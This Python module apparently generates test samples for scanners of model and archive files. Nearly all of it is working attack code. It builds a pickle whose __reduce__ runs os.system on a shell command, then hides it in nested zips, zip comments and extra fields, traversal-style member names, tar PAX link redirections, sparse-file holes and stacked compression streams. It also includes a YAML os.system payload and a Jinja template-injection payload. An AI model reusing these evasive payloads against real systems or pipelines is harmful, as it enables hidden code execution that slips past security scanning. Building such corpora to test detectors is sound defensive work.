"""Members of archives in odd places: names, sizes, ends and prefixes of zips, extended headers and links of tars."""
import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile

from ..registry import Attack, SHELL, kind


class Runs:
    def __reduce__(self):
        import os
        return os.system, (SHELL,)


DATA = pickle.dumps(Runs(), 4)
ZIP = 'import zipfile, pickle\nz = zipfile.ZipFile(path)\n'
TAR = 'import tarfile, pickle\nt = tarfile.open(path)\n'


def zipped(members, comment=b'', method=zipfile.ZIP_STORED, prefix=b'', before=None):
    buffer = io.BytesIO()
    buffer.write(prefix)
    with zipfile.ZipFile(buffer, 'a' if prefix else 'w', method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = method
            if before:
                before(info)
            archive.writestr(info, data)
        archive.comment = comment
    return buffer.getvalue()


def tarred(members, **options):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode='w', **options) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            if isinstance(data, str):
                info.type, info.linkname = tarfile.SYMTYPE, data
                data = b''
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@kind('zip: a zip with a prefix and an end inside another container')
def inner_ends():
    for comment in (b'', b'c' * 100, b'c' * 5000):
        for prefix in (b'', b'# words\n' * 100, b'\x00\x01' * 3000):
            inner = zipped([('m.pkl', DATA)], comment, zipfile.ZIP_DEFLATED, prefix)
            opened = 'import io, zipfile, pickle\n'
            last = 'z = zipfile.ZipFile(io.BytesIO(b)); pickle.loads(z.read("m.pkl"))'
            yield Attack('o.zip', zipped([('i.bin', inner)]), loader=opened + 'b = zipfile.ZipFile(path).read("i.bin")\n' + last)
            yield Attack('o.zip', zipped([('i.bin', inner)], method=zipfile.ZIP_DEFLATED), loader=opened + 'b = zipfile.ZipFile(path).read("i.bin")\n' + last)
            yield Attack('o.tar', tarred([('i.bin', inner)]), loader=opened + 'import tarfile; t = tarfile.open(path); b = t.extractfile("i.bin").read()\n' + last)
            for name, compress in (('gz', gzip), ('bz2', bz2), ('xz', lzma)):
                yield Attack(f'i.bin.{name}', compress.compress(inner), loader=opened + f'import {compress.__name__}; b = {compress.__name__}.open(path).read()\n' + last)
            yield Attack('i.bin.gz.bz2', bz2.compress(gzip.compress(inner)), loader=opened + 'import gzip, bz2; b = gzip.decompress(bz2.open(path).read())\n' + last)
            yield Attack('o.tar.gz', gzip.compress(tarred([('i.bin', inner)])), loader=opened + 'import tarfile; t = tarfile.open(path); b = t.extractfile("i.bin").read()\n' + last)


@kind('zip: odd members')
def zips():
    def unix_path(info):
        info.extra = struct.pack('<HHBI', 0x7075, 5 + 5, 1, 0) + b'x.txt'
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        for name in ('m', '../m', '/m', 'a\\m', 'm.txt', 'é', 'd/', 'm.png', '.hidden', 'm\0.png', 'x' * 60_000):
            yield Attack('m.zip', zipped([(name, DATA)], method=method), loader=ZIP + 'pickle.loads(z.read(z.infolist()[0]))')
        yield Attack('m.zip', zipped([('m', DATA)], method=method, before=unix_path), loader=ZIP + 'pickle.loads(z.read(z.infolist()[0]))')
        yield Attack('m.zip', zipped([('m', pickle.dumps(1)), ('m', DATA), ('M', pickle.dumps(2))], method=method), loader=ZIP + 'pickle.loads(z.read("m"))')
        yield Attack('m.zip', zipped([('m', pickle.dumps(1))], comment=DATA, method=method), loader=ZIP + 'pickle.loads(z.comment)')

    def noted(info):
        info.comment = DATA
    yield Attack('m.zip', zipped([('m', pickle.dumps(1))], before=noted), loader=ZIP + 'pickle.loads(z.infolist()[0].comment)')

    def extra(info):
        info.extra = struct.pack('<HH', 0xcafe, len(DATA)) + DATA
    yield Attack('m.zip', zipped([('m', pickle.dumps(1))], before=extra), loader=ZIP + 'pickle.loads(z.infolist()[0].extra[4:])')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as archive:
        with archive.open('m', 'w', force_zip64=True) as member:
            member.write(DATA)
    yield Attack('m.zip', buffer.getvalue(), loader=ZIP + 'pickle.loads(z.read("m"))')

    class Unseekable(io.RawIOBase):
        def __init__(self):
            self.data = b''

        def writable(self):
            return True

        def write(self, data):
            self.data += bytes(data)
            return len(data)
    target = Unseekable()
    with zipfile.ZipFile(target, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('m', DATA)
    yield Attack('m.zip', target.data, loader=ZIP + 'pickle.loads(z.read("m"))')


@kind('archive: a member of no known format')
def unknown():
    import msgpack
    import msgpack_numpy
    import numpy
    odd = {
        'a.mpk': (msgpack.packb([1, numpy.array([Runs()], object)], default=msgpack_numpy.encode), 'import msgpack, msgpack_numpy; msgpack.unpackb(b, object_hook=msgpack_numpy.decode)'),
        'm.mpk': (msgpack.packb({'w': numpy.array([Runs()], object)}, default=msgpack_numpy.encode), 'import msgpack, msgpack_numpy; msgpack.unpackb(b, object_hook=msgpack_numpy.decode, strict_map_key=False)'),
        'cache.dat': (struct.pack('<IQ', 1, len(DATA)) + DATA, 'pickle.loads(b[12:])'),
        'log.bin': (b'\0' * 700 + DATA, 'pickle.loads(b[700:])'),
        'records.tfrecord': (struct.pack('<QI', len(DATA), 0) + DATA + b'\0' * 4, 'pickle.loads(b[12:-4])'),
    }
    for name, (data, loads) in odd.items():
        yield Attack(name, data, loader='import pickle\nb = open(path, "rb").read()\n' + loads)
        yield Attack(f'{name}.gz', gzip.compress(data), loader='import gzip, pickle\nb = gzip.open(path).read()\n' + loads)
        yield Attack('m.zip', zipped([(name, data)]), loader=ZIP + f'b = z.read({name!r})\n' + loads)
        yield Attack('m.zip', zipped([(name, data)], method=zipfile.ZIP_DEFLATED), loader=ZIP + f'b = z.read({name!r})\n' + loads)
        yield Attack('m.tar', tarred([(name, data)]), loader=TAR + f'b = t.extractfile({name!r}).read()\n' + loads)
        yield Attack('m.tar.gz', gzip.compress(tarred([(name, data)])), loader=TAR + f'b = t.extractfile({name!r}).read()\n' + loads)


@kind('tar: extended headers, sparse files and links')
def tars():
    for options in (dict(format=tarfile.USTAR_FORMAT), dict(format=tarfile.GNU_FORMAT), dict(format=tarfile.PAX_FORMAT)):
        for name in ('m', 'd/' * 40 + 'm', 'x' * 90, 'é'):
            yield Attack('m.tar', tarred([(name, DATA)], **options), loader=TAR + 'pickle.loads(t.extractfile(t.next()).read())')
    # A link to a later member, and a chain of them.
    for links in ([('l', 'm')], [('l', 'k'), ('k', './d/../m')], [('d/l', '../m')]):
        for order in (1, -1):
            members = [*links, ('m', DATA)][::order]
            yield Attack('m.tar', tarred(members), loader=TAR + f'pickle.loads(t.extractfile({links[0][0]!r}).read())')
    yaml = f"!!python/object/apply:os.system ['{SHELL}']\n".encode()
    template = ("{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}").encode()
    # The name comes from an extended header, of which the last counts.
    for kind_ in (tarfile.SYMTYPE, tarfile.LNKTYPE):
        for content, alias, load in ((yaml, 'model_config.yaml', 'import yaml; yaml.unsafe_load(b)'), (template, 'chat_template.jinja', 'import jinja2; jinja2.Environment().from_string(b.decode()).render()')):
            for compress in (bytes, gzip.compress):
                for later in (True, False):
                    buffer = io.BytesIO()
                    with tarfile.open(fileobj=buffer, mode='w', format=tarfile.PAX_FORMAT) as tar:
                        target = tarfile.TarInfo('notes.log')
                        target.size = len(content)
                        link = tarfile.TarInfo('x')
                        link.type, link.linkname = kind_, 'nothing'
                        link.pax_headers = {'path': alias, 'linkpath': 'notes.log'}
                        if not later:
                            tar.addfile(target, io.BytesIO(content))
                        tar.addfile(link)
                        if later:
                            tar.addfile(target, io.BytesIO(content))
                    yield Attack('m.tar', compress(buffer.getvalue()), loader=TAR + f'b = t.extractfile(t.getmember({alias!r})).read() if {later or kind_ == tarfile.SYMTYPE} else t.extractfile({alias!r}).read()\n' + load)
    # Holes: what is stored is another pickle than what is read.
    size = 512
    head = b'\x80\x04B' + struct.pack('<I', size)
    whole = head + b'\0' * size + b'0' + DATA[2:]
    stored = head + b'0' + DATA[2:]
    stored += b'N.' + b'\0' * 600
    for how in ('GNU.sparse.0.1', 'GNU.sparse.1.0'):
        info = tarfile.TarInfo('m')
        ranges = f'0,{len(head)},{len(head) + size},{len(whole) - len(head) - size}'
        body = head + whole[len(head) + size:]
        if how.endswith('0.1'):
            info.pax_headers = {'GNU.sparse.map': ranges, 'GNU.sparse.size': str(len(whole))}
        else:
            lines = '\n'.join(['2', *ranges.split(',')]) + '\n'
            body = lines.encode().ljust(512, b'\0') + body
            info.pax_headers = {'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.realsize': str(len(whole)), 'GNU.sparse.name': 'm'}
        info.size = len(body)
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode='w', format=tarfile.PAX_FORMAT) as tar:
            tar.addfile(info, io.BytesIO(body))
        yield Attack('m.tar', buffer.getvalue(), loader=TAR + 'pickle.loads(t.extractfile(t.next()).read())')
    joined = tarred([('a', b'1')]) + tarred([('m', DATA)])
    yield Attack('m.tar', joined, loader='import tarfile, pickle\nt = tarfile.open(path, ignore_zeros=True)\npickle.loads(t.extractfile("m").read())')
    yield Attack('m.tar', tarred([('a', b'1')], pax_headers={'comment': pickle.dumps(Runs(), 0).decode()}, format=tarfile.PAX_FORMAT), loader=TAR + 'pickle.loads(t.pax_headers["comment"].encode())')


@kind('streams: several, within each other, without headers')
def streams():
    import joblib
    import zlib
    for compress in (gzip, bz2, lzma):
        name = compress.__name__
        opened = f'import {name}, pickle\nf = {name}.open(path)\n'
        yield Attack('m.bin', compress.compress(pickle.dumps(1)) + compress.compress(DATA), loader=opened + 'pickle.load(f); pickle.load(f)')
        yield Attack('m.bin', compress.compress(b'') + compress.compress(DATA), loader=opened + 'pickle.load(f)')
        yield Attack('m.bin', compress.compress(DATA[:20]) + compress.compress(DATA[20:]), loader=opened + 'pickle.load(f)')
        yield Attack('m.bin', compress.compress(b'\0' * 5000 + DATA), loader=opened + 'f.seek(5000); pickle.load(f)')
        yield Attack('m.bin', b'\0' * 200 + compress.compress(DATA), loader=f'import {name}, pickle\npickle.loads({name}.decompress(open(path, "rb").read()[200:]))')
        yield Attack('m.bin', b'words\n' + compress.compress(DATA), loader=f'import {name}, pickle\npickle.loads({name}.decompress(open(path, "rb").read()[6:]))')
        yield Attack('m.bin', pickle.dumps({'a': compress.compress(DATA)}), loader=f'import {name}, pickle\npickle.loads({name}.decompress(pickle.load(open(path, "rb"))["a"]))')
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield Attack('m.bin', raw.compress(DATA) + raw.flush(), loader='import zlib, pickle\npickle.loads(zlib.decompress(open(path, "rb").read(), -15))')
    yield Attack('m.z', b'ZF' + hex(len(DATA)).ljust(19).encode() + zlib.compress(DATA), loader='joblib')
    for method in ('zlib', 'gzip', 'bz2', 'xz', 'lzma'):
        buffer = io.BytesIO()
        joblib.dump(Runs(), buffer, compress=(method, 3))
        yield Attack('m.bin', buffer.getvalue(), loader='joblib')
    alone = lzma.compress(DATA, format=lzma.FORMAT_ALONE)
    yield Attack('m.bin', alone, loader='import lzma, pickle\npickle.load(lzma.open(path))')
    yield Attack('m.bin', lzma.compress(DATA, format=lzma.FORMAT_ALONE, filters=[dict(id=lzma.FILTER_LZMA1, dict_size=12345, lc=1, lp=1, pb=1)]), loader='import lzma, pickle\npickle.load(lzma.open(path))')
